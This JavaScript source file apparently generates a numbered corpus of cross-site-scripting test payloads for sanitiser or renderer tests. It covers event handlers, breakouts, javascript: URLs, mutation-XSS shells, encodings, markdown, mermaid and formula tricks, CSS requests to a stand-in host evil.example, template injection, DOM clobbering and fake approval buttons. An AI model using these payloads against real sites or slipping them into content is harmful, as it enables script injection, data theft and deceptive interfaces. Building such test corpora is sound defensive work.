// Payloads that would call `__xss(number)`, ask for something at OUTSIDE, or change the page if any sink took foreign text
// for more than text. Made by rule: what can be wrong, times where it can be wrong. The order never changes, so that a
// number names the same payload tomorrow.

export const OUTSIDE = 'evil.example'

// The § is the payload's number, put in at the end.
const RUN = '__xss(§)'
const FAR = `https://${OUTSIDE}/§`

const each = (list, make) => list.map((entry) => make(entry))
const cross = (first, second, make) => first.flatMap((a) => second.map((b) => make(a, b)))

// ---- tags and events ------------------------------------------------------------------------------------------------

const LOADING = ['img src=x', 'image src=x', 'video src=x', 'audio src=x', 'input type=image src=x', 'video><source', 'embed src=x', 'object data=x', 'link rel=stylesheet href=x', 'script src=x', 'track src=x', 'svg><image href=x']
const SHOWN = ['body', 'div', 'p', 'details open', 'select autofocus', 'textarea autofocus', 'input autofocus', 'keygen autofocus', 'button autofocus', 'a href=# autofocus', 'marquee', 'math', 'svg', 'table', 'dialog open', 'x-custom tabindex=1 autofocus', 'iframe', 'frameset', 'form', 'meter', 'style', 'portal']
const SHOWN_EVENTS = ['onload', 'onfocus', 'onfocusin', 'ontoggle', 'onstart', 'onanimationstart', 'onpointerenter', 'onbeforetoggle', 'onscroll', 'onclick']

const EVENTS = [
  ...cross(LOADING, ['onerror', 'onload', 'ONERROR'], (tag, event) => `<${tag} ${event}=${RUN}>`),
  ...SHOWN.flatMap((tag, index) => [0, 3, 6].map((step) => `<${tag} ${SHOWN_EVENTS[(index + step) % SHOWN_EVENTS.length]}="${RUN}">`)),
  ...each(['begin', 'end', 'repeat'], (moment) => `<svg><animate on${moment}=${RUN} attributeName=x dur=1s repeatCount=2></svg>`),
  ...each(['/', '\t', '\n', '\f', '\r', '//', ' / '], (gap) => `<img${gap}src=x${gap}onerror=${RUN}>`),
  ...each(['"', "'", '`', ''], (quote) => `<img src=${quote}x${quote} onerror=${quote}${RUN}${quote}>`),
]

// ---- breaking out of what the text stands in --------------------------------------------------------------------------

const CLOSERS = ['">', "'>", '`>', '-->', '--!>', ']]>', '*/', '"/>', '</title>', '</textarea>', '</style>', '</script>', '</noscript>', '</template>', '</xmp>', '</iframe>', '</svg>', '</math>', '</code></pre>', '</a>', '</td></tr></table>', '</button>', '</option></select>', '<!--><', '\\">', '&quot;>']
const BREAKOUTS = cross(CLOSERS, [`<img src=x onerror=${RUN}>`, `<script>${RUN}</script>`, `<svg/onload=${RUN}>`], (close, then) => close + then)
const ATTRIBUTES = each(
  ['" onmouseover="', "' onmouseover='", '" onfocus="', '" autofocus onfocus="', '" style="animation-name:x" onanimationstart="', '"\tonerror="', '"\nonload="', ' onpointerover='],
  (open) => `x${open}${RUN}`,
)

// ---- addresses --------------------------------------------------------------------------------------------------------

const letters = (text, encode) => [...text].map(encode).join('')
const RUN_URL = `javascript:${RUN}`
const ADDRESSES = [
  RUN_URL,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\rscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `\u00a0javascript:${RUN}`,
  `\ufeffjavascript:${RUN}`,
  `java\u200bscript:${RUN}`,
  `java\u0000script:${RUN}`,
  `ｊａｖａｓｃｒｉｐｔ:${RUN}`,
  `javascript&colon;${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&NewLine;script:${RUN}`,
  `${letters('javascript', (c) => `&#${c.charCodeAt(0)};`)}:${RUN}`,
  `${letters('javascript', (c) => `&#x${c.charCodeAt(0).toString(16)}`)}:${RUN}`,
  `${letters('javascript', (c) => `&#${String(c.charCodeAt(0)).padStart(7, '0')}`)}:${RUN}`,
  `%6aavascript:${RUN}`,
  `javascript%3a${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript://${OUTSIDE}/%0d%0a${RUN}`,
  `vbscript:${RUN}`,
  `livescript:${RUN}`,
  `data:text/html,<script>parent.${RUN}</script>`,
  `data:text/html;base64,${Buffer.from('<script>parent.__xss(0)</script>').toString('base64')}`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `blob:${FAR}`,
  `filesystem:${FAR}`,
  `view-source:${FAR}`,
  `file:///etc/passwd?§`,
  `//${OUTSIDE}/§`,
  `\\\\${OUTSIDE}\\§`,
  `/\\${OUTSIDE}/§`,
  `https:${OUTSIDE}/§`,
  FAR,
]
const CARRIERS = [
  (url) => `[click](${url})`,
  (url) => `[click](<${url}>)`,
  (url) => `![look](${url})`,
  (url) => `<${url}>`,
  (url) => `[click][r§]\n\n[r§]: ${url} "title"`,
  (url) => `[![look](${url})](${url})`,
  (url) => `<a href="${url}">click</a>`,
  (url) => `<svg><a xlink:href="${url}"><text y=9>click</text></a></svg>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<form action="${url}"><input type=submit id=s§></form><label for=s§>go</label>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<base href="${url}">`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<link rel=stylesheet href="${url}">`,
  (url) => `<button formaction="${url}" form=start>go</button>`,
  (url) => `<math href="${url}"><mtext>click</mtext></math>`,
  (url) => `<img srcset="${url} 2x" src="${url}">`,
  (url) => url,
]
// Every address in three carriers, every carrier with the plain one and the far one.
const URLS = [
  ...ADDRESSES.flatMap((url, index) => [0, 6, 11].map((step) => CARRIERS[(index + step) % CARRIERS.length](url))),
  ...cross(CARRIERS, [RUN_URL, FAR], (carry, url) => carry(url)),
  ...each(['" onclick="', "' onclick='", ') <img src=x onerror=', ' "onmouseover='], (tail) => `[click](https://example.org/${tail}${RUN})`),
  `[a](https://example.org "title\\" onmouseover=\\"${RUN}")`,
  `![" onerror="${RUN}](https://${OUTSIDE}/§.png)`,
]

// ---- parsers that disagree ----------------------------------------------------------------------------------------------

const HIDDEN = [`<img src=x onerror=${RUN}>`, `<img title="</style><img src=x onerror=${RUN}>">`]
const SHELLS = [
  ['<math><mtext><table><mglyph><style>', '</style></mglyph></table></mtext></math>'],
  ['<math><mi><mglyph><svg><mtext><style><path>', '</path></style></mtext></svg></mglyph></mi></math>'],
  ['<svg><style>', '</style></svg>'],
  ['<svg></p><style>', '</style>'],
  ['<svg><desc><title>', '</title></desc></svg>'],
  ['<svg><foreignObject><body>', '</body></foreignObject></svg>'],
  ['<noscript><p title="</noscript>', '"></noscript>'],
  ['<template>', '</template>'],
  ['<template><form><template>', '</template></form></template>'],
  ['<div><template shadowrootmode=open>', '</template></div>'],
  ['<select><option><style></option></select>', '</style>'],
  ['<select><svg></select>', '</svg>'],
  ['<table><colgroup><svg>', '</svg></colgroup></table>'],
  ['<form><div></form><form>', '</form>'],
  ['<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'],
  ['<xmp>', '</xmp>'],
  ['<plaintext>', ''],
  ['<textarea>', '</textarea>'],
  ['<title>', '</title>'],
  ['<listing>', '</listing>'],
  ['<!--', '-->'],
  ['<![CDATA[', ']]>'],
  ['<?xml ', '?>'],
  ['<a id="', '"></a>'],
]
const MUTATIONS = cross(SHELLS, HIDDEN, ([open, close], inner) => open + inner + close)

// ---- encodings and marks nobody sees --------------------------------------------------------------------------------------

const IMG = `<img src=x onerror=${RUN}>`
const MARKS = ['\u0000', '\u0008', '\u000b', '\u001b[31m', '\u001b]8;;javascript:x\u0007', '\r', '\r\n', '\u007f', '\u0085', '\u00ad', '\u061c', '\u200b', '\u200d', '\u200e', '\u200f', '\u2028', '\u2029', '\u202a', '\u202d', '\u202e', '\u2066', '\u2067', '\u2069', '\ufeff', '\ufff9', '\ufffd', '\ud800', '\u{e0041}']
/** Encoded, a number could not be put in afterwards. */
const PLAIN = IMG.replace('§', '0')
const ENCODED = [
  letters(PLAIN, (c) => `&#${c.charCodeAt(0)};`),
  letters(PLAIN, (c) => `&#x${c.charCodeAt(0).toString(16)};`),
  letters(PLAIN, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`),
  letters(PLAIN, (c) => `\\x${c.charCodeAt(0).toString(16)}`),
  letters(PLAIN, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)),
  encodeURIComponent(PLAIN),
  encodeURIComponent(encodeURIComponent(PLAIN)),
  PLAIN.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  PLAIN.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  PLAIN.replaceAll('<', '&lt').replaceAll('>', '&gt'),
  `+ADw-script+AD4-__xss(0)+ADw-/script+AD4-`,
  PLAIN.replaceAll('<', '\u2039').replaceAll('>', '\u203a'),
  PLAIN.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  PLAIN.replaceAll('<', '%3C').replaceAll('>', '%3E'),
]
const UNSEEN = [
  ...each(MARKS, (mark) => `${mark}<im${mark}g src=x ${mark}onerror${mark}=${RUN}>${mark}`),
  ...each(MARKS.slice(10, 24), (mark) => `safe.txt${mark}${IMG}exe.${mark}`),
  `GET / HTTP/1.1\r\nHost: ${OUTSIDE}\r\n\r\n${IMG}`,
  `x\r\nSet-Cookie: a=§\r\n\r\n${IMG}`,
]

// ---- markdown -------------------------------------------------------------------------------------------------------------

const FENCE = '```'
const MARKDOWN = [
  `${FENCE}"><img/src=x/onerror=${RUN}>\ncode\n${FENCE}`,
  `${FENCE}html\n${IMG}\n${FENCE}`,
  `${FENCE}svg\n<svg onload=${RUN}></svg>\n${FENCE}`,
  `${FENCE}js onload=${RUN}\n${RUN}\n${FENCE}`,
  `${FENCE}\n${IMG}`,
  `~~~\n${FENCE}\n~~~\n${IMG}\n${FENCE}`,
  `\`${IMG}`,
  `\`\`${IMG}\`\``,
  `> ${IMG}`,
  `- ${IMG}\n  - ${IMG}`,
  `1. ${IMG}`,
  `- [ ] ${IMG}`,
  `# ${IMG}`,
  `${IMG}\n===`,
  `| a |\n| - |\n| ${IMG} |`,
  `| ${IMG} |\n| :-: |`,
  `**${IMG}**`,
  `~~${IMG}~~`,
  `[${IMG}](https://example.org/§)`,
  `![${IMG}](https://${OUTSIDE}/§.png)`,
  `[a]: <javascript:${RUN}>\n[a]`,
  `[^1]\n\n[^1]: ${IMG}`,
  `<div>\n\n${IMG}\n\n</div>`,
  `<div\n${IMG}>`,
  `<details><summary>${IMG}</summary></details>`,
  `    ${IMG}`,
  `\\${IMG}`,
  `\\<img src=x onerror=${RUN}\\>`,
  `${'> '.repeat(40)}${IMG}`,
  `${'*'.repeat(60)}${IMG}`,
  `${'['.repeat(60)}${IMG}`,
  `www.${OUTSIDE}/§?<img src=x onerror=${RUN}>`,
  `http://${OUTSIDE}/§"onmouseover="${RUN}`,
  `a@${OUTSIDE}"onmouseover="${RUN}`,
  `<https://${OUTSIDE}/"onclick="${RUN}">`,
  `:::warning ${IMG}\n:::`,
  `---\ntitle: ${IMG}\n---`,
  `<!-- ${IMG} --> ${IMG}`,
]

// ---- diagrams and formulas --------------------------------------------------------------------------------------------------

const fenced = (language, text) => `${FENCE}${language}\n${text}\n${FENCE}`
const DIAGRAMS = each(
  [
    `graph TD\n  A["${IMG}"] --> B`,
    `graph TD\n  A[a]\n  click A "${RUN_URL}"`,
    `graph TD\n  A[a]\n  click A href "${RUN_URL}" _self`,
    `graph TD\n  A[a]\n  click A call __xss(§)`,
    `graph TD\n  A[a]\n  click A "${FAR}"`,
    `%%{init: {"securityLevel": "loose"}}%%\ngraph TD\n  A["${IMG}"]`,
    `%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph TD\n  A["<b onmouseover=${RUN}>x</b>"]\n  click A "${RUN_URL}"`,
    `%%{init: {"themeCSS": "* {background: url(${FAR})}"}}%%\ngraph TD\n  A`,
    `%%{init: {"fontFamily": "x;}</style>${IMG}"}}%%\ngraph TD\n  A`,
    `%%{init: {"__proto__": {"polluted": "§"}}}%%\ngraph TD\n  A`,
    `%%{wrap}%%\nsequenceDiagram\n  A->>B: ${IMG}`,
    `sequenceDiagram\n  participant A as ${IMG}\n  link A: x @ ${RUN_URL}`,
    `classDiagram\n  class A["${IMG}"]\n  link A "${RUN_URL}"`,
    `classDiagram\n  class A {\n    ${IMG}\n  }`,
    `stateDiagram-v2\n  s1 : ${IMG}`,
    `gantt\n  title ${IMG}\n  section s\n  ${IMG} :a, 2026-01-01, 1d\n  click a href "${RUN_URL}"`,
    `pie title ${IMG}\n  "${IMG}" : 1`,
    `mindmap\n  root(${IMG})`,
    `erDiagram\n  "${IMG}" ||--o{ B : "${IMG}"`,
    `journey\n  title ${IMG}\n  section s\n    ${IMG}: 5: Me`,
    `gitGraph\n  commit id: "${IMG}"`,
    `graph TD\n  A["\`**x** ${IMG}\`"]`,
    `graph TD\n  A@{ img: "${FAR}.png", label: "x" }`,
    `graph TD\n  style A fill:url(${FAR})`,
    `graph TD\n  A --> B\n  style A mask:url(${FAR}),cursor:url(${FAR}),filter:url(${FAR})\n  linkStyle 0 marker-end:url(${FAR})`,
    `graph TD\n  A:::c\n  classDef c background-image:url(${FAR}),list-style:u\\72l(${FAR}),mask-image:image-set("${FAR}" 1x)`,
    `---\ntitle: ${IMG}\nconfig:\n  themeCSS: "* {background: url(${FAR})}"\n  fontFamily: "x;} * {background: url(${FAR})}"\n---\ngraph TD\n  A`,
    `%%{init: {"themeVariables": {"primaryColor": "url(${FAR})", "fontFamily": "x} * {background:url(${FAR})}"}}}%%\ngraph TD\n  A`,
    `sequenceDiagram\n  box url(${FAR}) x\n  participant A\n  end\n  rect url(${FAR})\n  A->>A: ${IMG}\n  end`,
    `graph TD\n  A["$$\\href{${RUN_URL}}{x}$$"] --> B["&lt;img src=x onerror=${RUN}&gt; #60;img src=x onerror=${RUN}#62;"]`,
    `---\nconfig:\n  securityLevel: loose\n---\ngraph TD\n  A["${IMG}"]`,
  ],
  (text) => fenced('mermaid', text),
)
const FORMULAS = [
  `\\href{${RUN_URL}}{x}`,
  `\\href{JAVASCRIPT:${RUN}}{x}`,
  `\\href{data:text/html,<script>${RUN}</script>}{x}`,
  `\\url{${RUN_URL}}`,
  `\\includegraphics{${FAR}.png}`,
  `\\includegraphics[alt="${IMG}"]{${RUN_URL}}`,
  `\\htmlClass{x" onmouseover="${RUN}}{x}`,
  `\\htmlId{x" onmouseover="${RUN}}{x}`,
  `\\htmlStyle{background:url(${FAR})}{x}`,
  `\\htmlData{x="${IMG}"}{x}`,
  `\\text{${IMG}}`,
  `\\unicode{<img src=x onerror=${RUN}>}`,
  `\\color{red;background:url(${FAR})}x`,
  `\\def\\x{\\x\\x}\\x ${IMG}`,
  `\\rule{1e9em}{1e9em}${IMG}`,
  `\\require{html} \\href{${RUN_URL}}{x}`,
  `\\tag{${IMG}} x`,
  `\\undefined{${IMG}}`,
].flatMap((text) => [`$${text}$`, `$$\n${text}\n$$`])

// ---- pictures and styles ----------------------------------------------------------------------------------------------------

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script><foreignObject>${IMG}</foreignObject><image href="${FAR}"/></svg>`
const PICTURES = [
  SVG,
  `data:image/svg+xml;utf8,${SVG}`,
  `data:image/svg+xml;base64,${Buffer.from(SVG.replaceAll('§', '0')).toString('base64')}`,
  `![x](data:image/svg+xml;base64,${Buffer.from(SVG.replaceAll('§', '0')).toString('base64')})`,
  `<img src='data:image/svg+xml,${encodeURIComponent(SVG.replaceAll('§', '0'))}'>`,
  `<svg><use href="data:image/svg+xml,${encodeURIComponent(SVG.replaceAll('§', '0'))}#x"/></svg>`,
  `<svg><set attributeName=href to=${RUN_URL} /></svg>`,
  `<svg><a><animate attributeName=href values=${RUN_URL} /><text y=20>x</text></a></svg>`,
  `<svg><script href="${FAR}"/></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler></svg>`,
  `image/svg+xml" onerror="${RUN}`,
  `image/svg+xml;x="${IMG}`,
  `text/html,${IMG}`,
]
const STYLES = [
  `<style>@import url(${FAR});</style>`,
  `<style>*{background:url(${FAR})}</style>`,
  `<style>input[value^=a]{background:url(${FAR})}</style>`,
  `<style>@font-face{font-family:x;src:url(${FAR})}*{font-family:x}</style>`,
  `<style>@keyframes x{}</style><b style=animation-name:x onanimationend=${RUN}>`,
  `<style>:root{--a:url(${FAR})}body{background:var(--a)}</style>`,
  `<p style="background:url(${FAR})">`,
  `<p style="background:url('${RUN_URL}')">`,
  `<p style="width:expression(${RUN})">`,
  `<p style="position:fixed;inset:0;z-index:99999;background:red">`,
  `<p style="behavior:url(${FAR});-moz-binding:url(${FAR})">`,
  `<link rel=preload as=image href=${FAR}>`,
  `<link rel=prefetch href=${FAR}>`,
  `<link rel=dns-prefetch href=//${OUTSIDE}>`,
  `<table background=${FAR}><tr><td background=${FAR}>x</table>`,
  `<video poster=${FAR}></video>`,
  `<audio src=${FAR} autoplay></audio>`,
  `<a ping=${FAR} href=https://example.org/§>x</a>`,
  `red;background:url(${FAR})`,
  `url(${FAR})`,
]

// ---- scripts, templates, names of things ---------------------------------------------------------------------------------------

const SCRIPTS = [
  ...each(['script', 'SCRIPT', 'ScRiPt', 'script ', 'script\t', 'script/x', 'script type=module', 'script type=text/javascript', 'svg:script', 'scr\u0000ipt', 'scr<script>ipt', 'script async defer'], (tag) => `<${tag}>${RUN}</${tag.split(/[ \t/]/)[0]}>`),
  `<script src=${FAR}></script>`,
  `<script src=data:,${RUN}></script>`,
  `<script type=importmap>{"imports":{"x":"${FAR}"}}</script>`,
  `<script type=speculationrules>{"prerender":[{"source":"list","urls":["${FAR}"]}]}</script>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe srcdoc='&lt;img src=x onerror=parent.${RUN}&gt;'></iframe>`,
  `<object type=text/html data="data:text/html,<script>${RUN}</script>"></object>`,
  `<fencedframe></fencedframe><portal src=${FAR}></portal>`,
  `<input autofocus onfocus=${RUN} contenteditable popover>`,
  `<button popovertarget=p§>x</button><div id=p§ popover onbeforetoggle=${RUN}>y</div>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<applet code=x archive=${FAR}></applet>`,
  `<bgsound src=${FAR}>`,
  `<layer src=${FAR}></layer>`,
  `<xml id=x src=${FAR}></xml>`,
]
const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{ ${RUN} }}`,
  `{${RUN}}`,
  `{@html '${IMG}'}`,
  `\${${RUN}}`,
  `\`\${${RUN}}\``,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `[[${RUN}]]`,
  `{% raw %}${IMG}{% endraw %}`,
  `';${RUN};//`,
  `";${RUN};//`,
  `\\';${RUN};//`,
  `\u2028${RUN}\u2029`,
  `-${RUN}-`,
  `'-${RUN}-'`,
  `);${RUN};(`,
  `%s%n%x${RUN}`,
  `*/${RUN}/*`,
  `</script><script>${RUN}</script>`,
]
/** Names that mean something to JavaScript or to a document; as such, or as the id of an element. */
export const NAMES = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', 'isPrototypeOf', 'then', 'toJSON', 'length', 'name', 'location', 'document', 'body', 'cookie', 'forms', 'attributes', 'nodeName', 'parentNode', 'innerHTML', 'default', 'undefined', 'null', 'NaN']
const CLOBBERS = NAMES.flatMap((name) => [name, `<form id=${name} name=${name}><input name=${name}><input name=parentNode></form>`, `<a id=${name}></a><a id=${name} name=x§ href="cid:${RUN}"></a>`])
const SAME_TITLE = each(['Allow', 'Approve', 'Claude Code', 'localhost', 'about:blank'], (word) => `<button onclick=${RUN}>${word}</button>`)

const all = [
  ...EVENTS, ...BREAKOUTS, ...ATTRIBUTES, ...URLS, ...MUTATIONS, ...ENCODED, ...UNSEEN, ...MARKDOWN, ...DIAGRAMS, ...FORMULAS,
  ...PICTURES, ...STYLES, ...SCRIPTS, ...TEMPLATES, ...CLOBBERS, ...SAME_TITLE,
]

/** Every payload, numbered by its place. */
export const CORPUS = [...new Set(all)].map((text, number) => text.replaceAll('§', String(number)))
